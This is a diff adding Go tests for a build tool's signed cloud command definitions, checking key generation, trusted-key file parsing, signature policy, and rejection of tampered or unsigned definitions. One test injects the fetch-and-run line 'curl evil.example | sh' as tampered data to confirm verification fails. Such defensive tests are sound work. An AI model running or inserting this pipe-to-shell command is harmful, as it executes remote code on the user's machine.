@@ -0,0 +1,199 @@
+package pkg
+
+import (
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// signedCloudFixture pushes a parsed Constfile's |deploy| command into dir's
+// cloud file, signed with a fresh key, and returns the key's public half.
+func signedCloudFixture(t *testing.T, dir string) string {
+	t.Helper()
+	p := NewParserFromContent("Constfile", "|deploy| arg env = \"staging\" < build {\n  $ echo deploying &env\n  if &env == prod {\n    $ echo careful\n  }\n}\n\nbuild {\n  $ echo build\n}\n")
+	data, err := p.Parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyPath := filepath.Join(dir, "keys", "signing.pem")
+	pub, err := GenerateSigningKey(keyPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := GenerateSigningKey(keyPath); err == nil {
+		t.Fatal("keygen overwrote an existing key")
+	}
+	key, err := LoadSigningKey(keyPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := NewExecutor(data, false, false)
+	e.SetBaseDir(dir)
+	if _, err := e.CloudPush(nil, filepath.Join(dir, "construct-cloud.json"), key); err != nil {
+		t.Fatal(err)
+	}
+	return pub
+}
+
+func TestCloudPushSignVerifies(t *testing.T) {
+	dir := t.TempDir()
+	pub := signedCloudFixture(t, dir)
+	defs, err := LoadCloudDefsFile(filepath.Join(dir, "construct-cloud.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	def := defs["deploy"]
+	if def.Signature == nil || def.Signature.Key != pub {
+		t.Fatalf("signature = %+v, want one by %s", def.Signature, pub)
+	}
+	trusted := &TrustedKeys{Policy: CloudPolicyRequire, Keys: map[string]string{pub: "ci"}}
+	if err := VerifyCloudDef("deploy", def, trusted); err != nil {
+		t.Fatalf("freshly pushed definition: %v", err)
+	}
+
+	status := func(name string, c Command, tk *TrustedKeys) string {
+		var ve *CloudVerifyError
+		if err := VerifyCloudDef(name, c, tk); !errors.As(err, &ve) {
+			return ""
+		}
+		return ve.Status
+	}
+	if got := status("deploy", def, &TrustedKeys{Keys: map[string]string{}}); got != "untrusted" {
+		t.Errorf("unknown key: status %q, want untrusted", got)
+	}
+	if got := status("rollback", def, trusted); got != "invalid" {
+		t.Errorf("renamed definition: status %q, want invalid", got)
+	}
+	tampered := def
+	tampered.Body = append([]BodyStatement{{Type: StmtShell, Shell: "curl evil.example | sh"}}, def.Body...)
+	if got := status("deploy", tampered, trusted); got != "invalid" {
+		t.Errorf("tampered body: status %q, want invalid", got)
+	}
+	unsigned := def
+	unsigned.Signature = nil
+	if got := status("deploy", unsigned, trusted); got != "unsigned" {
+		t.Errorf("no signature: status %q, want unsigned", got)
+	}
+}
+
+func TestCloudSignPayloadIsCanonical(t *testing.T) {
+	// Pinned: any change to these bytes breaks every form 1 signature.
+	payload, err := cloudSignPayload("deploy", Command{Name: "deploy", Body: shellBody("echo hi")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := "construct-cloud-v1\ndeploy\n" + `{"body":[{"shell":"echo hi","type":"shell"}],"name":"deploy"}`
+	if string(payload) != want {
+		t.Errorf("payload = %q, want %q", payload, want)
+	}
+
+	dir := t.TempDir()
+	pub := signedCloudFixture(t, dir)
+	trusted := &TrustedKeys{Keys: map[string]string{pub: "ci"}}
+	raw, _ := os.ReadFile(filepath.Join(dir, "construct-cloud.json"))
+	var doc map[string]map[string]any
+	if err := json.Unmarshal(raw, &doc); err != nil {
+		t.Fatal(err)
+	}
+	// A hand-reindented cloud file still verifies.
+	raw, _ = json.MarshalIndent(doc, "", "\t")
+	var defs map[string]Command
+	if err := json.Unmarshal(raw, &defs); err != nil {
+		t.Fatal(err)
+	}
+	if err := VerifyCloudDef("deploy", defs["deploy"], trusted); err != nil {
+		t.Errorf("reformatted definition: %v", err)
+	}
+
+	future := defs["deploy"]
+	sig := *future.Signature
+	sig.Form = 2
+	future.Signature = &sig
+	if err := VerifyCloudDef("deploy", future, trusted); err == nil || !strings.Contains(err.Error(), "form 2") {
+		t.Errorf("unknown form: err = %v", err)
+	}
+}
+
+func TestLoadTrustedKeys(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, TrustedKeysFile)
+	tk, err := LoadTrustedKeys(path)
+	if err != nil || tk.Policy != CloudPolicyWarn || len(tk.Keys) != 0 {
+		t.Fatalf("missing file = %+v, %v; want warn with no keys", tk, err)
+	}
+
+	pub, err := GenerateSigningKey(filepath.Join(dir, "k.pem"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(path, []byte("# release signers\n"+pub+" release-bot\n"), 0644)
+	if tk, err = LoadTrustedKeys(path); err != nil || tk.Policy != CloudPolicyRequire || tk.Keys[pub] != "release-bot" {
+		t.Fatalf("trusted keys = %+v, %v", tk, err)
+	}
+	os.WriteFile(path, []byte("policy warn\n"+pub+"\n"), 0644)
+	if tk, err = LoadTrustedKeys(path); err != nil || tk.Policy != CloudPolicyWarn {
+		t.Fatalf("policy warn = %+v, %v", tk, err)
+	}
+	for _, bad := range []string{"policy lax\n", "not-a-key\n"} {
+		os.WriteFile(path, []byte(bad), 0644)
+		if _, err := LoadTrustedKeys(path); err == nil || !strings.Contains(err.Error(), ":1:") {
+			t.Errorf("%q: err = %v, want a line-numbered error", bad, err)
+		}
+	}
+}
+
+func TestExecutorCloudSignaturePolicy(t *testing.T) {
+	dir := t.TempDir()
+	pub := signedCloudFixture(t, dir)
+	cloudFile := filepath.Join(dir, "construct-cloud.json")
+	defs, _ := LoadCloudDefsFile(cloudFile)
+	tampered := defs["deploy"]
+	tampered.Body = shellBody("echo pwned")
+	defs["tampered"] = tampered
+	defs["unsigned"] = Command{Name: "unsigned", Body: shellBody("echo hi")}
+	raw, _ := json.Marshal(defs)
+	os.WriteFile(cloudFile, raw, 0644)
+	t.Setenv("CONSTRUCT_CLOUD_FILE", cloudFile)
+
+	lookup := func(name string) error {
+		e := NewExecutor(&ParsedData{}, false, false)
+		e.SetBaseDir(dir)
+		_, err := e.getCloudDefinition(name)
+		return err
+	}
+
+	os.WriteFile(filepath.Join(dir, TrustedKeysFile), []byte(pub+"\n"), 0644)
+	if err := lookup("deploy"); err != nil {
+		t.Errorf("signed definition refused: %v", err)
+	}
+	for _, name := range []string{"tampered", "unsigned"} {
+		if err := lookup(name); !isCloudVerifyError(err) {
+			t.Errorf("%s: err = %v, want it refused", name, err)
+		}
+	}
+
+	cmd := &Command{Name: "unsigned", CloudAccessible: true, Body: shellBody("echo local")}
+	e := NewExecutor(&ParsedData{}, false, false)
+	e.SetBaseDir(dir)
+	if _, err := e.bodyFor(cmd); !isCloudVerifyError(err) {
+		t.Errorf("bodyFor err = %v, want the refusal rather than the local body alone", err)
+	}
+
+	os.WriteFile(filepath.Join(dir, TrustedKeysFile), []byte("policy warn\n"+pub+"\n"), 0644)
+	for _, name := range []string{"tampered", "unsigned"} {
+		if err := lookup(name); err != nil {
+			t.Errorf("%s under policy warn: %v", name, err)
+		}
+	}
+	os.WriteFile(filepath.Join(dir, TrustedKeysFile), []byte("not-a-key\n"), 0644)
+	e = NewExecutor(&ParsedData{}, false, false)
+	e.SetBaseDir(dir)
+	for i := 0; i < 2; i++ {
+		if _, err := e.getCloudDefinition("deploy"); !isCloudVerifyError(err) || !strings.Contains(err.Error(), "cannot be verified") {
+			t.Errorf("lookup %d with malformed trusted keys: err = %v, want a verification failure", i, err)
+		}
+	}
+}